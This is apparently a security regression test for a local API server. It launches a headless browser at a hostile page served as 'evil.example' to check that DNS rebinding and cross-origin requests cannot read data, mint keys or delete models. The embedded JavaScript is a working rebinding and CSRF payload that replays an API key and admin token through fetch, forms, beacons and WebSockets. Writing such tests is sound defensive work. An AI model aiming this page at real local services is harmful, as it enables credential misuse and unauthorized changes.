"""Hostile page: what a page of somebody else can do to a server of this machine, in a real browser.

    python -m tests.bench.hostile_page [--browser chromium]

The page is read under a name that is then let point to the server (DNS rebinding), and tries that
and the server's own addresses in every way that a page has: fetch with and without CORS, forms,
images, scripts, frames, beacons, event streams and WebSockets. It even knows a key and the admin
token, so that nothing but the browser and the server's look at `Host` and `Origin` is in its way.
Proves: it reads nothing, changes nothing and spends nothing.
"""

import argparse
import http.client
import http.server
import json
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import click

from tests.bench.load import own_server
from tests.server import EMBED, Server

NAME = "evil.example"
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
WAIT_S = 90.0
REFUSAL = f"This server is not known as '{NAME}"
SECRETS = ('"object"', '"status"', '"error"', "gigarouter", "gr-", "openapi", "<!doctype")
"""What answers of the server hold: none of it may be read."""

PAGE = """<!doctype html><title>harmless</title><body><script>
const KEY = %(key)s, TOKEN = %(token)s, BODY = %(body)s, PORT = %(port)d;
const tried = [];
const note = (how, url, what) => tried.push([how, url, String(what).slice(0, 300)]);
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no("late"), 8000))]);
async function read(how, url, options) {
  try {
    const answer = await within(fetch(url, options));
    note(how, url, answer.type === "opaque" ? "" : await within(answer.text()));
  } catch (error) { note(how, url, ""); }
}
function element(how, tag, url, more) {
  return new Promise((done) => {
    const made = Object.assign(document.createElement(tag), more || {});
    const end = (text) => { note(how, url, text); done(); };
    made.onload = () => {
      let text = "";
      try { text = made.contentDocument ? made.contentDocument.body.innerText : ""; } catch (e) {}
      if (tag === "img") text = made.naturalWidth ? "an image" : "";
      end(text);
    };
    made.onerror = () => end("");
    setTimeout(() => end(""), 4000);
    made[tag === "link" ? "href" : "src"] = url;
    if (tag === "link") made.rel = "stylesheet";
    document.body.append(made);
  });
}
function form(url, fields, enctype) {
  return new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
    const made = Object.assign(document.createElement("form"), {action: url, method: "post", target: frame.name, enctype});
    for (const [name, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement("input"), {type: "hidden", name, value}));
    }
    const end = () => {
      let text = "";
      try { text = frame.contentDocument.body.innerText; } catch (e) {}
      note("form " + enctype, url, text); done();
    };
    document.body.append(frame, made);
    frame.onload = end; setTimeout(end, 4000);
    made.submit();
  });
}
function socket(url) {
  return new Promise((done) => {
    let made;
    try { made = new WebSocket(url); } catch (e) { note("websocket", url, ""); return done(); }
    made.onopen = () => { note("websocket", url, "opened"); done(); };
    made.onerror = () => { note("websocket", url, ""); done(); };
    setTimeout(() => { note("websocket", url, ""); done(); }, 4000);
  });
}
function stream(url) {
  return new Promise((done) => {
    const made = new EventSource(url);
    made.onmessage = (event) => { note("events", url, event.data); made.close(); done(); };
    made.onopen = () => { note("events", url, "opened"); made.close(); done(); };
    made.onerror = () => { note("events", url, ""); made.close(); done(); };
    setTimeout(() => { made.close(); done(); }, 4000);
  });
}
async function attack(base) {
  const reads = ["/health", "/v1/models", "/v1/openapi.json", "/metrics", "/account", "/v1/key",
    "/admin/v1/keys", "/admin/v1/stats", "/admin/v1/log", "/nowhere", "/?q=", "/docs", "/playground"];
  const bearer = {Authorization: "Bearer " + KEY}, operator = {Authorization: "Bearer " + TOKEN};
  const json = {"Content-Type": "application/json"}, plain = {"Content-Type": "text/plain"};
  const mint = JSON.stringify({name: "stolen", credit: "1"});
  const jobs = [];
  for (const path of reads) {
    jobs.push(read("fetch", base + path, {}));
    jobs.push(read("fetch as operator", base + path, {headers: operator}));
    jobs.push(read("fetch with a key", base + path, {headers: {"X-Api-Key": KEY}}));
    jobs.push(read("fetch a page", base + path, {headers: {Accept: "text/html"}}));
    jobs.push(read("fetch no-cors", base + path, {mode: "no-cors"}));
    jobs.push(element("frame", "iframe", base + path));
  }
  jobs.push(element("image", "img", base + "/health"), element("script", "script", base + "/v1/models"));
  jobs.push(element("style", "link", base + "/v1/openapi.json"));
  for (const path of ["/v1/embeddings", "/v1/rerank", "/admin/v1/keys", "/admin/v1/backup"]) {
    const content = path === "/v1/embeddings" ? BODY : mint;
    const headers = path.startsWith("/admin") ? operator : bearer;
    jobs.push(read("post", base + path, {method: "POST", body: content, headers: {...headers, ...json}}));
    jobs.push(read("post no-cors", base + path, {method: "POST", mode: "no-cors", body: content, headers: plain}));
    jobs.push(read("post with credentials", base + path, {method: "POST", mode: "no-cors", credentials: "include", body: content}));
    jobs.push(form(base + path, {name: "stolen", credit: "1"}, "application/x-www-form-urlencoded"));
    jobs.push(form(base + path, {[content]: ""}, "text/plain"));
    jobs.push(form(base + path, {name: "stolen"}, "multipart/form-data"));
    navigator.sendBeacon(base + path, new Blob([content], {type: "text/plain"}));
  }
  jobs.push(read("delete", base + "/admin/v1/models", {method: "DELETE", headers: operator}));
  jobs.push(stream(base + "/admin/v1/events"));
  for (const path of ["/", "/v1/embeddings", "/admin/v1/events"]) jobs.push(socket(base.replace("http", "ws") + path));
  await Promise.all(jobs);
}
(async () => {
  for (const base of ["http://%(name)s:" + PORT, "http://127.0.0.1:" + PORT, "http://localhost:" + PORT]) await attack(base);
  await fetch("/report", {method: "POST", body: JSON.stringify(tried)});
})();
</script>"""


@dataclass
class Attack:
    """What one page tried, and what it read."""

    page: bytes
    victim: int
    """The server's port."""
    tried: list[tuple[str, str, str]] = field(default_factory=list)
    """How, where, and what was read; empty: nothing."""
    reached: list[tuple[str, int]] = field(default_factory=list)
    """What the browser sent to the server under the name of the page, and how that was answered."""
    ended: threading.Event = field(default_factory=threading.Event)

    @property
    def read(self) -> list[tuple[str, str, str]]:
        """What was read of the server, but for its word that it does not go by the page's name."""
        return [
            each
            for each in self.tried
            if (each[2] in ("opened", "an image") or any(word in each[2] for word in SECRETS))
            and REFUSAL not in each[2]
        ]


class Internet(http.server.BaseHTTPRequestHandler):
    """A proxy that stands for the page's own server and for a name that changes where it points.

    `/` and `/report` under the page's name are the page's server; everything else under it goes to
    the victim, with the page's name as its `Host`, as after a rebinding.
    """

    attack: Attack
    protocol_version = "HTTP/1.1"

    def log_message(self, *_: Any) -> None:  # type: ignore[override]
        """Say nothing."""

    def handle(self) -> None:
        """Serve one connection; a browser that is killed leaves it as it is."""
        with suppress(ConnectionError):
            super().handle()

    def _serve(self) -> None:
        own = f"http://{NAME}:{self.attack.victim}"
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        path = "/" + self.path.split("/", 3)[-1] if self.path.startswith("http") else self.path
        is_page = self.path.startswith(own + "/")
        if is_page and path == "/":
            self._answer(200, self.attack.page, "text/html")
        elif is_page and path == "/report":
            self.attack.tried = [tuple(each) for each in json.loads(body)]
            self._answer(200, b"", "text/plain")
            self.attack.ended.set()
        elif self.path.startswith("http") and f":{self.attack.victim}/" in self.path + "/":
            self._pass_on(path, body)
        else:
            self._answer(404, b"", "text/plain")

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = _serve  # noqa: N815 - http.server's names

    def _pass_on(self, path: str, body: bytes) -> None:
        victim = http.client.HTTPConnection("127.0.0.1", self.attack.victim, timeout=20)
        kept = {
            name: value
            for name, value in self.headers.items()
            if name.lower() not in {"proxy-connection", "connection"}
        }
        try:
            victim.request(self.command, path, body or None, kept)
            answer = victim.getresponse()
            content = b"" if answer.headers.get("transfer-encoding") else answer.read()
            if NAME in self.headers.get("host", ""):
                self.attack.reached.append((f"{self.command} {path}", answer.status))
            self._answer(answer.status, content, answer.headers.get("content-type", ""), answer)
        except OSError:
            self._answer(502, b"", "text/plain")
        finally:
            victim.close()

    def _answer(
        self, status: int, content: bytes, kind: str, like: http.client.HTTPResponse | None = None
    ) -> None:
        self.send_response(status)
        for name, value in like.headers.items() if like is not None else ():
            if name.lower().startswith("access-control-"):
                self.send_header(name, value)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(content)


def browser() -> str | None:
    """Return the program of a browser that is installed."""
    return next(filter(None, map(shutil.which, BROWSERS)), None)


@contextmanager
def serving(attack: Attack) -> Iterator[int]:
    """Yield the port of the proxy."""
    handler = type("Handler", (Internet,), {"attack": attack})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as proxy:
        threading.Thread(target=proxy.serve_forever, daemon=True).start()
        yield proxy.server_address[1]
        proxy.shutdown()


def run(server: Server, key: str, program: str) -> Attack:
    """Let the page try everything; return what came of it."""
    token = (server.data_dir / "admin.token").read_text().strip()
    body = json.dumps({"model": EMBED, "input": "A man is eating food."})
    page = PAGE % {
        "key": json.dumps(key),
        "token": json.dumps(token),
        "body": json.dumps(body),
        "port": server.port,
        "name": NAME,
    }
    attack = Attack(page.encode(), server.port)
    with serving(attack) as port, tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as home:
        flags = (
            *("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
            *(f"--user-data-dir={Path(home) / 'profile'}", "--disable-background-networking"),
            *(f"--proxy-server=http://127.0.0.1:{port}", "--proxy-bypass-list=<-loopback>"),
            "--remote-debugging-port=0",  # or it leaves when the page is loaded
        )
        started = subprocess.Popen(
            [program, *flags, f"http://{NAME}:{server.port}/"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            attack.ended.wait(WAIT_S)
        finally:
            started.kill()
            started.wait()
    return attack


def state(server: Server) -> dict[str, Any]:
    """Return what a page must not change: the keys with their balances, models, backups."""
    with server.admin() as admin:
        found = {name: admin.get(f"/{name}").text for name in ("keys", "models", "usage")}
    backups = sorted(each.name for each in (server.data_dir / "backups").glob("*"))
    return {**found, "backups": backups}


def main() -> int:
    """Run from the command line."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("--browser", default=browser())
    asked = parser.parse_args()
    if asked.browser is None:
        click.echo(f"none of {', '.join(BROWSERS)} is installed")
        return 1
    with own_server("--fake") as server:
        key = str(server.mint("victim", credit="1")["key"])
        before = state(server)
        attack = run(server, key, asked.browser)
        after = state(server)
    for how, url, what in attack.read:
        click.echo(f"READ  {how:22} {url}: {what[:80]}")
    for what in before:
        if before[what] != after[what]:
            click.echo(f"CHANGED  {what}: {before[what]} -> {after[what]}")
    statuses = sorted({status for _, status in attack.reached})
    click.echo(
        f"{len(attack.tried)} attempts; {len(attack.reached)} of them reached the server under the "
        f"page's own name, answered {statuses}; {len(attack.read)} read anything"
    )
    holds = bool(attack.tried) and not attack.read and before == after and statuses == [421]
    click.echo("holds" if holds else "does not hold")
    return 0 if holds else 1


if __name__ == "__main__":
    sys.exit(main())
